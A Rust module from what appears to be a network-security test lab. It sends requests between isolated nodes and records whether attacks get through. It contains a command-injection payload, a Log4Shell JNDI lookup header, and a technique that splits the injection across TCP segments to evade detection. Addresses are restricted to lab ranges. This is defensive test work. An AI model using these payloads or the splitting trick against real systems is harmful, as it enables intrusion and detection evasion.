//! What the lab's nodes do to each other, and what came of it.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use bulkhead_sys::netns::Netns;
use serde::Serialize;

use crate::address::is_test_address;
use crate::servers::MARKER;

/// How long an answer is waited for. A blocked attack is silent, so a story with many of them lasts as many of these.
pub const PATIENCE: Duration = Duration::from_millis(1500);
/// Bytes of an answer that are kept.
const ANSWER_BYTES_MAX: u64 = 64 << 10;
/// Pause between the writes of a split request, so that each leaves as a segment of its own.
const PAUSE: Duration = Duration::from_millis(30);

/// What one act came to.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Observation {
    /// The connection was made.
    pub connected: bool,
    /// The beginning of what came back.
    pub answer: String,
    /// The answer shows that the exploit arrived.
    pub exploited: bool,
    /// How it ended, where it did not end well: `timed out`, `connection reset`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub error: Option<String>,
    pub millis: u64,
}

impl Observation {
    /// A whole answer came.
    pub fn answered(&self) -> bool {
        self.connected && !self.answer.is_empty() && self.error.is_none()
    }
}

/// A request in one or more writes; the server closes after its answer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Request {
    writes: Vec<Vec<u8>>,
}

impl Request {
    /// What any user of the web service does.
    pub fn benign() -> Self {
        Self::http("/ping?host=192.0.2.1", "")
    }

    /// Command injection: a semicolon ends the host's name and `id` would be run.
    pub fn injection() -> Self {
        Self::http("/ping?host=192.0.2.1;id", "")
    }

    /// The same, cut in the middle of what gives it away. No segment of it is suspect alone.
    pub fn split_injection() -> Self {
        let whole = Self::injection().writes.concat();
        let at = whole.windows(3).position(|w| w == b";id").unwrap_or(0) + 2;
        let (first, second) = whole.split_at(at);
        Self { writes: vec![first.to_vec(), second.to_vec()] }
    }

    /// A lookup that a vulnerable logger would have made (CVE-2021-44228).
    pub fn lookup() -> Self {
        Self::http("/", "X-Api-Version: ${jndi:ldap://192.0.2.66/a}\r\n")
    }

    /// What the web service asks of the database.
    pub fn query() -> Self {
        Self { writes: vec![b"SELECT customers\nQUIT\n".to_vec()] }
    }

    fn http(target: &str, headers: &str) -> Self {
        let head = format!("GET {target} HTTP/1.1\r\nHost: lab\r\nUser-Agent: bulkhead-lab\r\n{headers}Connection: close\r\n\r\n");
        Self { writes: vec![head.into_bytes()] }
    }

    /// Sends it from inside a namespace.
    pub fn send(&self, from: &Netns, to: SocketAddr) -> Observation {
        let start = Instant::now();
        let mut seen = Observation { connected: false, answer: String::new(), exploited: false, error: None, millis: 0 };
        let outcome = match from.run(|| self.exchange(to)) {
            Ok(outcome) => outcome,
            Err(e) => Outcome { error: Some(e.to_string()), ..Outcome::default() },
        };
        seen.connected = outcome.connected;
        seen.exploited = outcome.answer.windows(MARKER.len()).any(|w| w == MARKER.as_bytes());
        seen.answer = String::from_utf8_lossy(&outcome.answer).into_owned();
        seen.error = outcome.error;
        seen.millis = u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX);
        seen
    }

    fn exchange(&self, to: SocketAddr) -> Outcome {
        let mut outcome = Outcome::default();
        if let Err(e) = self.exchange_into(to, &mut outcome) {
            outcome.error = Some(words(&e));
        }
        outcome
    }

    fn exchange_into(&self, to: SocketAddr, outcome: &mut Outcome) -> io::Result<()> {
        if !is_test_address(to.ip()) {
            return Err(io::Error::other(format!("{to} is no address of a lab")));
        }
        let mut stream = TcpStream::connect_timeout(&to, PATIENCE)?;
        outcome.connected = true;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.set_write_timeout(Some(PATIENCE))?;
        for (at, bytes) in self.writes.iter().enumerate() {
            if at > 0 {
                std::thread::sleep(PAUSE);
            }
            stream.write_all(bytes)?;
        }
        stream.take(ANSWER_BYTES_MAX).read_to_end(&mut outcome.answer)?;
        Ok(())
    }
}

#[derive(Debug, Default)]
struct Outcome {
    connected: bool,
    answer: Vec<u8>,
    error: Option<String>,
}

fn words(error: &io::Error) -> String {
    match error.kind() {
        io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut => "timed out".into(),
        io::ErrorKind::ConnectionReset => "connection reset".into(),
        io::ErrorKind::ConnectionRefused => "connection refused".into(),
        _ => error.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_split_attack_is_the_same_bytes_and_suspect_in_no_part() {
        let (whole, split) = (Request::injection(), Request::split_injection());
        assert_eq!(whole.writes.concat(), split.writes.concat());
        assert_eq!(split.writes.len(), 2);
        assert!(split.writes.iter().all(|w| !w.windows(3).any(|w| w == b";id")));
    }

    #[test]
    fn a_strangers_address_is_never_a_target() {
        let here = Netns::current().expect("own namespace");
        let seen = Request::benign().send(&here, SocketAddr::from(([192, 168, 0, 1], 80)));
        assert!(!seen.connected && seen.error.is_some_and(|e| e.contains("no address of a lab")));
    }
}
